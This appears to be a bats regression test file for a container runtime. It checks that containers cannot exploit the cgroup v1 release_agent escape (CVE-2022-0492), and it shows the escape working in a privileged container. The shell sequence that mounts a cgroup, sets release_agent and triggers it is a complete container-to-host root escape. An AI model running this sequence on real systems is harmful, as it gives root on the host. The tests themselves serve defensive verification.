# shellcheck disable=SC2016,SC2030,SC2031,SC2154,SC2317 # for a shell inside; attack.bash and bats set these
# The kernel runs the release_agent of a cgroup v1 hierarchy on the host, as root (CVE-2022-0492).
load attack

# In the container: mounts a hierarchy, and sets the agent of every hierarchy that is there.
attack='mkdir -p /cg
	mount -t cgroup -o none,name=evil evil /cg && echo mounted
	for f in /cg/release_agent /sys/fs/cgroup/release_agent /sys/fs/cgroup/*/release_agent; do
		[ ! -e $f ] || ! echo "$1/agent" >$f || echo "set $f"
	done 2>/dev/null'

@test "a container sets no release_agent, not even with SYS_ADMIN in its user namespace" {
	for how in '' '--cap-add ALL' '--cap-add ALL --without seccomp'; do
		# shellcheck disable=SC2086 # options
		run ct-run --rm $how "$img" sh -c "$attack" sh "$D"
		[[ $output != *set* && $output != *mounted* ]]
	done
}

@test "without protection (--privileged --without cgns): the host executes the container's release_agent" {
	guest_only
	# On a volume: the kernel does not see the mounts of this test, such as the store.
	background --privileged --without cgns -v "$D:/volume" "$img" sleep 1000
	ct-exec "$c" sh -c "printf '#!/bin/sh\necho \"by the host: \$(hostname)\" >$D/owned\n' >/volume/agent; chmod 755 /volume/agent"
	run -0 ct-exec "$c" sh -c "$attack"'; mkdir /cg/x; echo 1 >/cg/x/notify_on_release; sh -c "echo \$\$ >/cg/x/cgroup.procs"' sh "$D"
	[[ $output == *mounted*"set /cg/release_agent"* ]]
	wait_until grep -qs 'by the host: ct-vm' "$D/owned"
	ct-exec "$c" umount /cg
}
